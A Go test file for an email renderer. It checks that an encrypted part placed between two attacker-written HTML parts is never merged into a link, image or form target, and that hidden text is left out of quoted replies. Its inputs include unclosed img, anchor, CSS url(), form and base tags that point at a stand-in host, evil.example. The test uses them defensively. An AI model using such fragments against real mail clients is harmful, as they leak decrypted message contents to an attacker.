package body

import (
	"strings"
	"testing"
)

// An encrypted text that an attacker put between two halves of an element of HTML must not become part of the target
// of a picture or a link, nor of any element; and what cannot be seen is not quoted in an answer.
func TestNoPartReachesIntoAnother(t *testing.T) {
	const secret = "the secret plan"
	between := func(before, kind, text, after string) []byte {
		return []byte("From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" +
			"--b\nContent-Type: text/html\n\n" + before + "\n--b\nContent-Type: " + kind + "\n\n" + text + "\n--b\nContent-Type: text/html\n\n" + after + "\n--b--\n")
	}
	for _, c := range [][2]string{
		{`<img src="http://evil.example/`, `">`}, {`<a href="http://evil.example/`, `">x</a>`}, {"<style>*{background:url(http://evil.example/", ")}</style>"},
		{"<div style='display:none'>", "</div>"}, {"<!--", "-->"}, {"<textarea>", "</textarea>"}, {"<title>", "</title>"}, {"<blockquote type=cite><table><tr><td>", "</table>"},
		{`<form action=http://evil.example><input name=x value='`, `'>`}, {`<base href="http://evil.example/">`, ""},
	} {
		for _, kind := range []string{"text/plain", "text/html"} {
			m := Parse(between(c[0], kind, secret+" <a href='/x'>y</a>", c[1]))
			parts := m.Parts(m.Root.TextParts("text/html"))
			d := Render(parts, Options{Width: 60, Measure: columns})
			shown := false
			for _, l := range d.Lines {
				shown = shown || strings.HasPrefix(l.Text(), secret) && l.Quote == 0
			}
			if !shown {
				t.Errorf("%s around %s: the text is not shown by itself:\n%s", c[0], kind, kinds(d))
			}
			for _, l := range d.Links {
				if strings.Contains(l.URL, "secret") || strings.Contains(l.URL, "evil.example/x") {
					t.Errorf("%s around %s: a link leads to %s", c[0], kind, l.URL)
				}
			}
			if plain := Plain(parts); !strings.Contains(plain, "\n"+secret) && !strings.HasPrefix(plain, secret) {
				t.Errorf("%s around %s: quoted is %q", c[0], kind, plain)
			}
		}
	}
	for _, hidden := range []string{"<p style='display:none'>", "<p style='font-size:1px'>", "<p style='color:#fff'>", "<p style='max-height:0;overflow:hidden'>", "<p hidden>", "<p style='opacity:0'>", "<p style='visibility:hidden'>"} {
		m := Parse([]byte("From: a@example.org\nContent-Type: text/html\n\n<p>Is that all right?</p>" + hidden + secret))
		if plain := Plain(m.Parts(m.Root.TextParts("text/html"))); !strings.Contains(plain, "Is that all right?") || strings.Contains(plain, secret) {
			t.Errorf("%s: quoted is %q", hidden, plain)
		}
	}
}
